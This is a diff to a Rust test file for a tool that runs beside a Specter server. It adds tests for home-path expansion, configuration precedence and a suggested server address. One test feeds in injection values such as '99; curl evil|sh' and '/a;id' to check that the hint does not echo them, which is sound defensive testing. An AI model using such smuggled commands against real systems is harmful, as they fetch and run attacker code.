@@ -1,7 +1,7 @@
 //! Beside a Specter that is running. Here a process stands for it that looks like one; the real one is tried in `tests/live`.
 
 use std::fs::{self, File};
-use std::os::unix::fs::symlink;
+use std::os::unix::fs::{MetadataExt as _, symlink};
 use std::os::unix::process::CommandExt as _;
 use std::process::{Child, Command, Stdio};
 use std::thread;
@@ -30,7 +30,8 @@ impl Process {
         fs::write(scripts.path().join("server"), "read line").unwrap();
         let mut command = Command::new("/bin/sh");
         command.arg0("specterd").arg("server").args(arguments).current_dir(scripts.path());
-        command.env_clear().env("SECRET_KEY", ITS_KEY).env("HOME", "/nonexistent").envs(variable);
+        command.env_clear().env("SECRET_KEY", ITS_KEY).env("HOME", "/nonexistent").env("SPECTER_API_ACTIVE", "True");
+        command.envs(variable);
         let mut process = Process::start(&mut command);
         process.scripts = Some(scripts);
         process
@@ -188,6 +189,107 @@ fn it_is_recognised_by_either_sign() {
     symlink(folder.users(), other.users()).unwrap();
     assert_eq!(code(with_option(path), other.path().to_str().unwrap()), 5);
     assert_eq!(code(with_option("/usr"), path), 4, "another Specter's folder; the description is taken by now");
+}
+
+/// Paths with `~`, in what a Specter is told and in what we are told.
+#[test]
+fn homes_are_taken_as_python_takes_them() {
+    let folder = folder();
+    let path = folder.path().to_str().unwrap();
+    // Our own home, from where a folder is reached that lies elsewhere.
+    let passwd = fs::read_to_string("/etc/passwd").unwrap();
+    let id = fs::metadata(folder.path()).unwrap().uid().to_string();
+    let mut users = passwd.lines().map(|line| line.split(':').collect::<Vec<_>>());
+    let user = users.find(|fields| fields[2] == id).expect("this test runs as a user of passwd");
+    let (name, home) = (user[0], user[5]);
+    let named = format!("~{name}/{}{}", "../".repeat(home.split('/').count()), &path[1..]);
+    let (named_none, none_at_home) = (format!("~{name}/none"), format!("{}/none", home.trim_end_matches('/')));
+    let below = format!("~{path}");
+    for (arguments, variable) in [
+        (vec![], ("SPECTER_DATA_FOLDER", &*named)),
+        (vec!["--specter-data-folder", &named], ("HOME", "/nonexistent")),
+        (vec!["--specter-data-folder", &below], ("HOME", "")),
+        (vec!["--specter-data-folder", &below], ("HOME", "//")),
+    ] {
+        let specter = Process::specter(&arguments, Some(variable));
+        let code = folder.command(CREATE).run().code;
+        assert_eq!(code, 5, "{arguments:?} {variable:?}");
+        drop(specter);
+    }
+    for (told, home, found) in [
+        ("~/none", Some(""), "/none"),
+        ("~/none", Some("/home//"), "/home/none"),
+        ("~//none", Some("/"), "//none"),
+        (&named_none, Some("/home"), &none_at_home),
+        (&named_none, None, &none_at_home),
+        ("~/none", None, &none_at_home),
+        ("~nobody-has-this-name/none", Some("/home"), "~nobody-has-this-name/none"),
+    ] {
+        for option in [true, false] {
+            let mut list = folder.command(["list"]).without("HOME");
+            if let Some(home) = home {
+                list = list.env("HOME", home);
+            }
+            let output = if option {
+                list.command.args(["--data-folder", told]);
+                list.run()
+            } else {
+                list.env("SPECTER_DATA_FOLDER", told).run()
+            };
+            assert!(output.stderr.contains(&format!(" {found}/users.json")), "{told} {home:?}: {output:?}");
+        }
+    }
+}
+
+/// The configuration that the option names has another folder.
+#[test]
+fn the_variable_beats_the_option_for_the_configuration() {
+    let home = Folder::empty();
+    for (name, variable, code) in [
+        (".specter_dev", "SPECTER_CONFIG", 0),
+        (".specter_dev", "SPECTER_OTHER", 5),
+        (".specter_testing", "SPECTER_CONFIG", 5),
+        (".specter_testing", "SPECTER_OTHER", 0),
+    ] {
+        let data = home.file(name);
+        let _ = fs::create_dir(&data);
+        fs::write(data.join("users.json"), ADMIN).unwrap();
+        let scripts = tempfile::tempdir().unwrap();
+        fs::write(scripts.path().join("server"), "read line").unwrap();
+        let mut command = Command::new("/bin/sh");
+        command.arg0("specterd").args(["server", "--config", "DevelopmentConfig"]).current_dir(scripts.path());
+        command.env_clear().env("HOME", home.path()).env(variable, "TestConfig");
+        let specter = Process::start(&mut command);
+        let output = home.command(CREATE).env("SPECTER_DATA_FOLDER", &data).run();
+        assert_eq!(output.code, code, "{name} {variable}: {output:?}");
+        drop(specter);
+    }
+}
+
+/// What the hint names is typed by whoever wants to go on: an address where this Specter is reached, or none.
+#[test]
+fn the_hint_names_no_address_but_one_of_this_machine() {
+    let folder = folder();
+    let path = folder.path().to_str().unwrap();
+    let hint = |arguments: &[&str], variable: (&str, &str)| {
+        let specter = Process::specter(&[&["--specter-data-folder", path], arguments].concat(), Some(variable));
+        let output = folder.command(CREATE).run();
+        drop(specter);
+        assert_eq!(output.code, 5, "{output:?}");
+        let (_, hint) = output.stderr.split_once("make the change itself: --server ").unwrap();
+        hint.split_once("; --even-if-running").unwrap().0.to_owned()
+    };
+    let nothing = ("X", "");
+    assert_eq!(hint(&["--host", "localhost", "--port", "80"], nothing), "http://localhost:80");
+    for (arguments, variable) in [
+        (vec!["--host", "evil.example"], nothing),
+        (vec!["--port", "99; curl evil|sh"], nothing),
+        (vec![], ("APP_URL_PREFIX", "/a;id")),
+        (vec![], ("SPECTER_API_ACTIVE", "False")),
+        (vec![], ("SPECTER_API_ACTIVE", "")),
+    ] {
+        assert_eq!(hint(&arguments, variable), "URL", "{arguments:?} {variable:?}");
+    }
 }
 
 /// A Specter that is started in the middle of a write may have read users.json before or after it.
